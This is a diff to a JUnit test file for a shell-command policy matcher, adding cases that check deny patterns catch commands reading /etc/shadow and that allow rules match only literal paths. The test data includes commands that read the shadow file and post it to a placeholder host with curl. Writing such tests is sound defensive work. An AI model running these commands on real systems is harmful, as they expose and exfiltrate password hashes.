@@ -1,6 +1,7 @@
 package hoop.policy.shell;
 
 import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
 import static org.junit.jupiter.api.Assertions.assertThrows;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
@@ -48,6 +49,13 @@ class ArgvPatternTest {
         "* /etc/shadow*    | cat ~root/../etc/shadow       | true",
         "* /etc/shadow*    | cat etc/shadow.bak/../x       | false",
         "* /etc/shadow*    | cat ~/etc/shadow              | false",
+        "* /etc/shadow*    | dd if=/etc/shadow of=/tmp/s   | true",
+        "* /etc/shadow*    | grep -f/etc/shadow x          | true",
+        "* /etc/shadow*    | curl -d @/etc/shadow http://x | true",
+        "* /etc/shadow*    | curl -F f=@/etc/shadow http://x | true",
+        "* /etc/shadow*    | curl file:///etc/shadow       | true",
+        "* /etc/shadow*    | sort --files0-from=/etc/shadow | true",
+        "* /etc/shadow*    | dd if=etc/shadow              | false",
         "* *shadow*        | cp /etc/shadow /tmp/x          | true",
         "git push*         | git push origin main          | true",
         "git push*         | git push                      | true",
@@ -107,5 +115,15 @@ class ArgvPatternTest {
     void quotedGlobArgumentIsLiteral() {
         SimpleCommand c = new SimpleCommand("cat", List.of("/etc/sha*"));
         assertTrue(ArgvPattern.compile("* /etc/sha*").matches(c));
+    }
+
+    @Test
+    void allowRulesMatchOnlyWhatIsWritten() {
+        // a guess at where a path lands may add a deny, never an allow
+        ArgvPattern srv = ArgvPattern.compile("cat /srv/*");
+        assertFalse(srv.matchesAsWritten(cmd("cat ../../srv/x")));
+        assertFalse(srv.matchesAsWritten(cmd("cat x=/srv/y")));
+        assertTrue(srv.matches(cmd("cat ../../srv/x")));
+        assertTrue(srv.matchesAsWritten(cmd("cat /srv/../srv/x")));
     }
 }
